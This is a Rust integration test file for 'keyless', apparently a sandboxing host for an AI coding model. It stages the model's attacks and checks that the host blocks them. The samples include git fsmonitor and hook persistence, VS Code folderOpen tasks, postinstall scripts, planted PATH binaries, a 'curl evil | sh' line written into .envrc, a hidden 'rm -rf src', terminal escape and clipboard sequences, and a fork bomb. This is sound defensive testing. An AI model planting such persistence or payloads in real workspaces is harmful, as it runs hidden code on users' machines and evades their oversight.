//! Limits that fail closed, files the user's tools run later, views that show what runs, and
//! bounded commands. Each attack runs through the front end a user would use (`run`,
//! `policy`, `log`, `serve`'s API) against the real binary, with canaries outside the workspace
//! and a positive control that shows the payload fires when nothing stops it.
#![allow(clippy::disallowed_methods)] // tests and benches start the programs under test
#![allow(clippy::expect_used, clippy::panic)] // the helpers fail the test loudly

mod common;

use common::{block, commit_all, git, make_executable, reply, run_cmd, Fixture};
use std::path::{Path, PathBuf};
use std::process::Command;

fn plant(path: &Path, canary: &Path) {
    std::fs::create_dir_all(path.parent().expect("folder")).expect("mkdir");
    std::fs::write(
        path,
        format!("#!/bin/sh\necho fired >> '{}'\nexit 1\n", canary.display()),
    )
    .expect("plant");
    make_executable(path);
}

fn path_with(first: &[&str]) -> String {
    let mut parts: Vec<String> = first.iter().map(|p| (*p).to_string()).collect();
    parts.push(std::env::var("PATH").unwrap_or_default());
    parts.join(":")
}

/// `keyless-host policy --workspace WS --json -- LINE` with `path`: the verdict.
fn verdict(fx: &Fixture, line: &str, path: &str) -> serde_json::Value {
    let out = fx
        .host()
        .args(["policy", "--json", "--workspace"])
        .arg(fx.ws())
        .arg("--")
        .arg(line)
        .current_dir(fx.ws())
        .env("PATH", path)
        .output()
        .expect("policy");
    serde_json::from_slice(&out.stdout).unwrap_or_else(|_| {
        panic!(
            "policy: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn sh_in(dir: &Path, line: &str, path: &str) {
    let _ = Command::new("sh")
        .args(["-c", line])
        .current_dir(dir)
        .env("PATH", path)
        .output()
        .expect("sh");
}

/// Attack 5: The git guard stops at a depth: a repository deeper than it looks, with `core.fsmonitor`
/// set and added as a gitlink at the root, is moved aside whole (never left unchecked), and
/// the words say what happened. The user's next `git status` at the root runs nothing.
#[test]
fn a_repository_deeper_than_the_guard_looks_is_moved_aside() {
    let fx = Fixture::new();
    let canary = fx.root.join("canary");
    let deep: String = (0..261).map(|i| format!("d{i}/")).collect();
    let deep = deep.trim_end_matches('/');
    let monitor = format!("echo fired >> {}; exit 1", canary.display());
    let setup = format!(
        "mkdir -p {deep} && git -C {deep} init -q && git -C {deep} config core.fsmonitor '{monitor}' && git -C {deep} -c user.name=m -c user.email=m@x commit -q --allow-empty -m m && git update-index --add --cacheinfo 160000,$(git -C {deep} rev-parse HEAD),{deep}"
    );
    // The control: the same, made outside keyless, fires at the user's `git status`.
    let other = fx.root.join("control");
    git(&fx.root, &["init", "-q", "control"]);
    sh_in(&other, &setup, &std::env::var("PATH").unwrap_or_default());
    let _ = Command::new("git")
        .arg("status")
        .current_dir(&other)
        .output()
        .expect("git status");
    assert!(canary.exists(), "the planted fsmonitor does not fire");
    std::fs::remove_file(&canary).expect("reset");
    // Through keyless, approved by the user.
    let (_, text) = fx.run(&[&run_cmd(&setup)], &["--yes"]);
    assert!(text.contains("KA_GIT_PROTECTED"), "{text}");
    assert!(text.contains("deeper than 256 folders"), "{text}");
    assert!(text.contains("moved to .agent/quarantine/"), "{text}");
    assert!(!text.contains("keyless put them back"), "{text}");
    let _ = Command::new("git")
        .arg("status")
        .current_dir(fx.ws())
        .output()
        .expect("git status");
    assert!(
        !canary.exists(),
        "the user's git status ran the model's fsmonitor"
    );
}

/// Attack 6: Files the user's own tools run later are confirmed in every mode but Auto: a husky hook
/// in the folder `core.hooksPath` names, editor tasks and settings, `.envrc`, pre-commit,
/// CI workflows, a manifest's install-time script, a program in a PATH folder of the
/// workspace, a move into one of them. With no one to confirm, none is written; an ordinary
/// file is (the control). In Auto mode they are written, and `@@done` lists them.
#[test]
fn files_the_users_tools_run_are_always_confirmed() {
    let fx = Fixture::new();
    let ws = fx.ws();
    git(&ws, &["config", "core.hooksPath", ".husky/_"]);
    std::fs::write(ws.join("setup.sh"), "#!/bin/sh\necho setup\n").expect("setup");
    make_executable(&ws.join("setup.sh"));
    commit_all(&ws, "an executable the repository has");
    let path = path_with(&["node_modules/.bin"]);
    let cases: Vec<(String, &str)> = vec![
        (
            block("newfile", &[("CONTENT", "#!/bin/sh\ntouch /tmp/x\n")]),
            ".husky/_/pre-commit",
        ),
        (
            block("newfile", &[("CONTENT", "{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"command\":\"sh x\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}")]),
            ".vscode/tasks.json",
        ),
        (block("newfile", &[("CONTENT", "{}")]), ".vscode/settings.json"),
        (block("newfile", &[("CONTENT", "eval \"$(cat x)\"")]), "sub/.envrc"),
        (block("newfile", &[("CONTENT", "repos: []")]), ".pre-commit-config.yaml"),
        (block("newfile", &[("CONTENT", "on: push")]), ".github/workflows/ci.yml"),
        (
            block("newfile", &[("CONTENT", "{\"scripts\":{\"postinstall\":\"node x\"}}")]),
            "package.json",
        ),
        (block("newfile", &[("CONTENT", "x")]), "node_modules/.bin/ssh"),
        (block("newfile", &[("CONTENT", "{}")]), ".claude/settings.json"),
    ];
    for (b, target) in &cases {
        let r = reply(&[b.replace("@@newfile", &format!("@@newfile {target}"))]);
        let out = fx
            .host()
            .args(["run", "--workspace"])
            .arg(&ws)
            .args(fx.reply_files(&[&r]))
            .env("PATH", &path)
            .output()
            .expect("run");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !ws.join(target).exists(),
            "{target} written unasked:\n{text}"
        );
        assert!(
            text.contains("a file your own tools run later"),
            "{target}: {text}"
        );
        assert!(text.contains("KA_COMMAND_DECLINED"), "{target}: {text}");
    }
    // The next variant: move an executable the repository has into the hooks folder.
    let mv = reply(&[block("movefile", &[("TO", ".husky/_/pre-push")])
        .replace("@@movefile", "@@movefile setup.sh")]);
    let (_, text) = fx.run(&[&mv], &[]);
    assert!(!ws.join(".husky/_/pre-push").exists(), "{text}");
    assert!(ws.join("setup.sh").exists(), "{text}");
    // The control: an ordinary file is written unasked.
    let plain =
        reply(&[block("newfile", &[("CONTENT", "x")]).replace("@@newfile", "@@newfile src/a.txt")]);
    let (_, text) = fx.run(&[&plain], &[]);
    assert!(ws.join("src/a.txt").exists(), "{text}");
    // Auto mode writes them, and the summary at @@done names each.
    std::fs::create_dir_all(fx.user_config()).expect("cfg");
    std::fs::write(
        fx.user_config().join("keyless.json"),
        "{\"Commands\": {\"Mode\": \"Auto\"}}",
    )
    .expect("auto");
    let r = reply(&[
        block("newfile", &[("CONTENT", "#!/bin/sh\n")])
            .replace("@@newfile", "@@newfile .husky/_/pre-commit"),
        block("newfile", &[("CONTENT", "use nix")]).replace("@@newfile", "@@newfile .envrc"),
    ])
    .replace("@@next\n@@end\n", "@@done\n<<<MSG\ndone\nMSG>>>\n@@end\n");
    let (_, text) = fx.run(&[&r], &[]);
    assert!(
        text.contains("Files your own tools run later that this task changed"),
        "{text}"
    );
    assert!(
        text.contains(".husky/_/pre-commit (git runs the hooks in this folder"),
        "{text}"
    );
    assert!(text.contains(".envrc (direnv runs it"), "{text}");
}

/// Attack 9a: The steering list has a bound: past it, every program a file can steer is at least
/// Execute (the list is not whole), never ReadOnly because the file that steers it was not
/// listed.
#[test]
fn steering_files_past_the_list_make_steered_programs_execute() {
    let fx = Fixture::new();
    let ws = fx.ws();
    let path = std::env::var("PATH").unwrap_or_default();
    // The control: below the bound, with no toolchain file, `cargo --version` is ReadOnly.
    for i in 0..10 {
        std::fs::create_dir_all(ws.join(format!("b{i}"))).expect("dir");
        std::fs::write(ws.join(format!("b{i}/.npmrc")), "x=1\n").expect("npmrc");
    }
    let v = verdict(&fx, "cd b0 && cargo --version", &path);
    assert_eq!(v["tier"], "ReadOnly", "{v}");
    for i in 10..520 {
        std::fs::create_dir_all(ws.join(format!("b{i}"))).expect("dir");
        std::fs::write(ws.join(format!("b{i}/.npmrc")), "x=1\n").expect("npmrc");
    }
    std::fs::write(
        ws.join("b519/rust-toolchain.toml"),
        "[toolchain]\npath = \"/tmp/x\"\n",
    )
    .expect("toolchain");
    let v = verdict(&fx, "cd b519 && cargo --version", &path);
    assert_ne!(v["tier"], "ReadOnly", "{v}");
    assert!(
        v["reason"]
            .as_str()
            .unwrap_or("")
            .contains("more of them than keyless could list"),
        "{v}"
    );
}

/// Attack 9b: A relative PATH entry: after a `cd`, the shell looks the program up from there, so
/// `cd src && ls` with `src/node_modules/.bin/ls` of the model's is never ReadOnly; run, it is
/// asked (and, with no one to ask, not run).
#[test]
fn a_relative_path_entry_is_checked_where_the_command_runs() {
    let fx = Fixture::new();
    let canary = fx.root.join("canary");
    plant(&fx.ws().join("src/node_modules/.bin/ls"), &canary);
    let path = path_with(&["node_modules/.bin"]);
    sh_in(&fx.ws(), "cd src && ls", &path);
    assert!(canary.exists(), "the planted ls does not fire");
    std::fs::remove_file(&canary).expect("reset");
    let v = verdict(&fx, "cd src && ls", &path);
    assert_eq!(v["tier"], "Risky", "{v}");
    assert!(
        v["reason"]
            .as_str()
            .unwrap_or("")
            .contains("relative folder"),
        "{v}"
    );
    // At the root, with nothing planted there, `ls` stays ReadOnly.
    assert_eq!(verdict(&fx, "ls", &path)["tier"], "ReadOnly");
    let out = fx
        .host()
        .args(["run", "--workspace"])
        .arg(fx.ws())
        .args(fx.reply_files(&[&run_cmd("cd src && ls")]))
        .current_dir(fx.ws())
        .env("PATH", &path)
        .output()
        .expect("run");
    assert!(!canary.exists(), "{}", String::from_utf8_lossy(&out.stdout));
}

/// Attack 9c: A `#!/usr/bin/env node` script is as trusted as the `node` PATH finds: with the model's
/// `.venv/bin/node` first on PATH, `npm --version` is Risky, and is not run unasked.
#[test]
fn a_script_whose_interpreter_the_model_planted_is_not_known() {
    let fx = Fixture::new();
    let canary = fx.root.join("canary");
    plant(&fx.ws().join(".venv/bin/node"), &canary);
    let bin = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("trusted-npm-{}", std::process::id()));
    std::fs::create_dir_all(&bin).expect("bin");
    std::fs::write(bin.join("npm"), "#!/usr/bin/env node\nconsole.log('1');\n").expect("npm");
    make_executable(&bin.join("npm"));
    let venv = fx.ws().join(".venv/bin").display().to_string();
    let path = path_with(&[&venv, &bin.display().to_string()]);
    sh_in(&fx.ws(), "npm --version", &path);
    assert!(canary.exists(), "the planted node does not fire");
    std::fs::remove_file(&canary).expect("reset");
    let v = verdict(&fx, "npm --version", &path);
    assert_eq!(v["tier"], "Risky", "{v}");
    assert!(
        v["reason"]
            .as_str()
            .unwrap_or("")
            .contains("#! line runs node"),
        "{v}"
    );
    let out = fx
        .host()
        .args(["run", "--workspace"])
        .arg(fx.ws())
        .args(fx.reply_files(&[&run_cmd("npm --version")]))
        .env("PATH", &path)
        .output()
        .expect("run");
    assert!(!canary.exists(), "{}", String::from_utf8_lossy(&out.stdout));
    let _ = std::fs::remove_dir_all(bin);
}

/// Attack 10: What a person reads is what runs: a confirmation shows a right-to-left override as its
/// code point and names every command that made the line ask; `run --diff` and `log --diff`
/// show a file's escape sequences (cursor movement, OSC 52) as code points.
#[test]
fn what_is_shown_is_what_runs() {
    let fx = Fixture::new();
    let line = "echo \"\u{202e}fdsa\"; rm -rf src";
    let (_, text) = fx.run(&[&run_cmd(line)], &[]);
    assert!(text.contains("[declined: no terminal"), "{text}");
    assert!(!text.contains('\u{202e}'), "{text}");
    assert!(text.contains("<U+202E>fdsa"), "{text}");
    assert!(text.contains("`rm -rf src`:"), "{text}");
    // Two commands that ask: both are named.
    let (_, text) = fx.run(&[&run_cmd("touch a; rm -rf src")], &[]);
    assert!(
        text.contains("`touch a`:") && text.contains("`rm -rf src`:"),
        "{text}"
    );
    // A file whose bytes move the cursor, erase a line and write the clipboard.
    let evil = "safe\n\u{1b}[1A\u{1b}[2Khidden\n\u{1b}]52;c;ZXZpbA==\u{7}\n";
    let r =
        reply(
            &[block("newfile", &[("CONTENT", evil)]).replace("@@newfile", "@@newfile notes.txt")],
        );
    let (out, text) = fx.run(&[&r], &["--diff"]);
    assert!(out.stdout.iter().all(|b| *b != 0x1b), "{text}");
    assert!(text.contains("<U+001B>[1A<U+001B>[2Khidden"), "{text}");
    assert!(text.contains("<U+001B>]52;c;ZXZpbA==<U+0007>"), "{text}");
    let session = common::session_of(&text);
    let out = fx
        .host()
        .args(["log", "--workspace"])
        .arg(fx.ws())
        .args(["--diff", &session])
        .output()
        .expect("log");
    assert!(
        out.stdout.iter().all(|b| *b != 0x1b),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("<U+001B>[2Khidden"));
}

/// Attack 11: Bounded commands: a fork bomb in Auto mode reaches `Commands.MaxProcesses`, is stopped
/// with `KA_LIMIT_PROCESSES`, and `serve` answers meanwhile; a memory hog gets
/// `KA_LIMIT_MEMORY`, with control groups and without (`KEYLESS_LIMITS=rlimit`).
#[test]
fn a_command_cannot_fork_or_allocate_without_bound() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.user_config()).expect("cfg");
    std::fs::write(
        fx.user_config().join("keyless.json"),
        "{\"Commands\": {\"Mode\": \"Auto\", \"MaxProcesses\": 64, \"MaxMemoryMiB\": 128}}",
    )
    .expect("config");
    std::fs::write(fx.ws().join("bomb.sh"), "b() { b & b & wait; }\nb\n").expect("bomb");
    let mut child = fx
        .host()
        .args(["serve", "--port", "0", "--workspace"])
        .arg(fx.ws())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("serve");
    let mut reader = std::io::BufReader::new(child.stdout.take().expect("stdout"));
    let banner = keyless_tests::serve::read_banner(&mut reader);
    std::thread::spawn(move || {
        let mut sink = String::new();
        let _ = std::io::Read::read_to_string(&mut reader, &mut sink);
    });
    let base = format!("http://127.0.0.1:{}", banner.port);
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .timeout_global(Some(std::time::Duration::from_secs(120)))
        .http_status_as_error(false)
        .build()
        .into();
    let auth = format!("Bearer {}", banner.token);
    let post = |path: &str, body: serde_json::Value| -> serde_json::Value {
        agent
            .post(&format!("{base}{path}"))
            .header("Authorization", &auth)
            .send_json(body)
            .expect("post")
            .body_mut()
            .read_json()
            .expect("json")
    };
    let session = post("/v1/sessions", serde_json::json!({}))["session"]
        .as_str()
        .expect("session")
        .to_string();
    let answered = std::sync::atomic::AtomicUsize::new(0);
    let done = std::sync::atomic::AtomicBool::new(false);
    let result = std::thread::scope(|s| {
        let t = s.spawn(|| {
            let r = post(
                &format!("/v1/sessions/{session}/replies"),
                serde_json::json!({"reply": run_cmd("sh bomb.sh").replace("@@runcommand", "@@runcommand timeout=60")}),
            );
            done.store(true, std::sync::atomic::Ordering::SeqCst);
            r
        });
        // While the bomb runs, serve answers.
        while !done.load(std::sync::atomic::Ordering::SeqCst) {
            let quick: ureq::Agent = ureq::Agent::config_builder()
                .timeout_global(Some(std::time::Duration::from_secs(20)))
                .build()
                .into();
            let status = quick
                .get(&format!("{base}/v1/status"))
                .header("Authorization", &auth)
                .call()
                .map(|r| r.status().as_u16());
            assert_eq!(
                status.ok(),
                Some(200),
                "serve did not answer while the bomb ran"
            );
            answered.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        t.join().expect("reply")
    });
    let text = result.to_string();
    assert!(text.contains("KA_LIMIT_PROCESSES"), "{text}");
    let hog = "python3 -c 'x = bytearray(1024*1024*1024); print(len(x))'";
    let r = post(
        &format!("/v1/sessions/{session}/replies"),
        serde_json::json!({"reply": run_cmd(hog)}),
    );
    assert!(r.to_string().contains("KA_LIMIT_MEMORY"), "{r}");
    let _ = child.kill();
    let _ = child.wait();
    // Without control groups: resource limits. (The fork bomb is not run this way here: the
    // kernel exempts root from RLIMIT_NPROC, and the test machines run as root; the host's
    // count of the command's processes is all that bounds it then, a tick late.)
    let files = fx.reply_files(&[&run_cmd(hog)]);
    let out = fx
        .host()
        .args(["run", "--workspace"])
        .arg(fx.ws())
        .args(&files)
        .env("KEYLESS_LIMITS", "rlimit")
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("KA_LIMIT_MEMORY"), "{text}");
}

/// The next variants of attack 6 (found by reading the change as an attacker): a command the
/// user never confirmed (Build tier: `python3 -m py_compile` imports the workspace's own
/// `py_compile.py`) writes `.envrc` and `.vscode/tasks.json`, even where `.gitignore` hides them:
/// put back; a link `v -> .vscode` makes `v/tasks.json` the editor's tasks; a manifest's
/// install-time script spelled with a JSON escape, or an edit of its value only; a command of
/// several lines shows that it has several in its result header.
#[test]
fn the_next_variants_of_persistence_are_confirmed_or_put_back() {
    let fx = Fixture::new();
    let ws = fx.ws();
    std::fs::write(ws.join(".gitignore"), ".envrc\n.vscode/\n").expect("ignore");
    std::fs::write(ws.join("x.py"), "x = 1\n").expect("x.py");
    std::fs::write(
        ws.join("py_compile.py"),
        "import os\nopen('.envrc', 'w').write('curl evil | sh\\n')\nos.makedirs('.vscode', exist_ok=True)\nopen('.vscode/tasks.json', 'w').write('{}')\n",
    )
    .expect("py_compile.py");
    std::fs::write(
        ws.join("package.json"),
        "{\"scripts\":{\"postinstall\":\"node setup.js\"}}\n",
    )
    .expect("package.json");
    commit_all(&ws, "a project");
    std::os::unix::fs::symlink(".vscode", ws.join("v")).expect("link");
    // The control: run as keyless would, the module writes both files.
    let control = fx.root.join("control");
    std::fs::create_dir_all(&control).expect("control");
    for f in ["py_compile.py", "x.py"] {
        std::fs::copy(ws.join(f), control.join(f)).expect("copy");
    }
    sh_in(
        &control,
        "python3 -m py_compile x.py",
        &std::env::var("PATH").unwrap_or_default(),
    );
    assert!(
        control.join(".envrc").exists(),
        "the planted module does not run"
    );
    let v = verdict(
        &fx,
        "python3 -m py_compile x.py",
        &std::env::var("PATH").unwrap_or_default(),
    );
    assert!(
        matches!(v["tier"].as_str(), Some("ReadOnly" | "Build")),
        "{v}"
    );
    let (_, text) = fx.run(&[&run_cmd("python3 -m py_compile x.py")], &[]);
    assert!(!ws.join(".envrc").exists(), "{text}");
    assert!(!ws.join(".vscode/tasks.json").exists(), "{text}");
    assert!(text.contains("ran without your confirmation"), "{text}");
    assert!(text.contains(".agent/quarantine/"), "{text}");
    // Through a link, with an escaped key, by an edit of the value: each is asked (and declined).
    let cases = [
        reply(&[
            block("newfile", &[("CONTENT", "{}")]).replace("@@newfile", "@@newfile v/tasks.json")
        ]),
        reply(&[block(
            "updatefile",
            &[(
                "CONTENT",
                "{\"scripts\":{\"postinstal\\u006c\":\"touch x\"}}",
            )],
        )
        .replace("@@updatefile", "@@updatefile package.json")]),
        reply(&[block(
            "editfile",
            &[("FIND", "node setup.js"), ("REPLACE", "touch x")],
        )
        .replace("@@editfile", "@@editfile package.json")]),
    ];
    for r in &cases {
        let (_, text) = fx.run(&[r], &[]);
        assert!(text.contains("KA_COMMAND_DECLINED"), "{text}");
        assert!(text.contains("a file your own tools run later"), "{text}");
    }
    assert!(!ws.join(".vscode/tasks.json").exists());
    assert!(String::from_utf8_lossy(&fx.read("package.json")).contains("node setup.js"));
    // Several lines: the header says so.
    let (_, text) = fx.run(&[&run_cmd("ls\ntouch y")], &["--yes"]);
    assert!(text.contains("| ls (+1 more line) ---"), "{text}");
}
